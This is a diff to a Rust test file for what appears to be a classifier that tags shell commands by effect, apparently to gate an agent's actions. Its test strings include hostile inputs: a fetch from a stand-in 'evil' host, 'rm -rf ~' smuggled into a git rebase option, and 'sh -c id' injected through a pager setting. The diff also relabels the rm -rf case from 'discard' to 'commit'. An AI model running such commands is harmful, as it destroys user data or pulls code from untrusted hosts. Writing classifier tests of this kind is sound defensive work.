@@ -142,9 +142,9 @@ fn git_tells_reading_from_losing() {
         ("git fetch https://evil/x", "sub fetch; host=https://evil/x; effect fetch on https://evil/x"),
         (
             "git pull --rebase origin main",
-            "sub pull; options --rebase; host=origin; effect fetch.public; effect commit; effect discard",
+            "sub pull; options --rebase; host=origin; effect fetch.public; effect commit",
         ),
-        ("git rebase -x 'rm -rf ~' HEAD~1", "sub rebase; options -x=rm -rf ~; code:shell=rm -rf ~; effect discard"),
+        ("git rebase -x 'rm -rf ~' HEAD~1", "sub rebase; options -x=rm -rf ~; code:shell=rm -rf ~; effect commit"),
         ("git config user.email t@t", "sub config; effect configure.project"),
         (
             "git config --global core.pager 'sh -c id'",
@@ -271,7 +271,7 @@ fn packages_are_locked_named_or_global() {
         ("go test ./...", "sub test; effect run.project; effect install.locked"),
         ("go run github.com/x/y@latest", "sub run; effect run.project; effect install.locked; effect install.named"),
         ("make -n test", "options -n; effect run.project"),
-        ("make -C sub all", "options -C=sub; chdir=sub; effect run.project"),
+        ("make -C sub all", "options -C=sub; chdir=sub; effect run.project; effect write on sub"),
         ("cmake --build build", "options --build=build; list=build; effect run.project"),
         ("just -l", "options -l; only prints"),
         ("apt-get install -y jq", "sub install; options -y; effect install.global on jq"),
